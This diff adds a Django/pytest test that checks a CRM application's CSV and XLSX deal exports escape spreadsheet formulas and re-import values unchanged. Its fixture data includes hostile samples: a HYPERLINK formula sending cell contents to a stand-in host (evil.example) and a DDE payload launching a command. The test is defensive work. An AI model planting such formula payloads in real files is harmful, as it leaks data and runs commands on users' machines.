@@ -121,3 +121,29 @@ def test_dump_restore_gives_identical_reports(tmp_path, team, manager, manager2,
     assert report_snapshot(admin, [pipeline.pk]) == before
     with pytest.raises(RestoreError):
         restore(tmp_path / "nope.zip")
+
+
+@pytest.mark.django_db
+def test_exports_never_carry_a_formula_and_import_back_unchanged(tmp_path, pipeline, manager,
+                                                                   admin):
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    make_deal(pipeline, manager, title=hostile, source="+cmd|' /C calc'!A0",
+              utm={"utm_campaign": "@SUM(1+1)"}, budget="100")
+    data = export_text("deals", admin)
+    row = rows(data)[1]
+    assert row[1] == "'" + hostile
+    assert not any(cell.startswith(("=", "+", "@")) for cell in row)
+    book = load_workbook(io.BytesIO(export_text("deals", admin, "xlsx")))
+    cells = list(book.active.iter_rows())[1]
+    assert cells[1].value == hostile and cells[1].data_type == "s"  # text, not a formula
+    assert all(c.data_type != "f" for c in cells)
+    path = tmp_path / "deals.csv"
+    path.write_bytes(data)
+    Deal.objects.all().delete()
+    mapping = guess_mapping("deals", read_table(path).header, "template", [])
+    result = import_file(actor=admin, kind="deals", path=path, mapping=mapping,
+                         source="voronka", pipeline=pipeline)
+    assert result["status"] == "done", result["rejected"]
+    deal = Deal.objects.get()
+    assert (deal.title, deal.source, deal.utm_campaign) == (
+        hostile, "+cmd|' /C calc'!A0", "@SUM(1+1)")
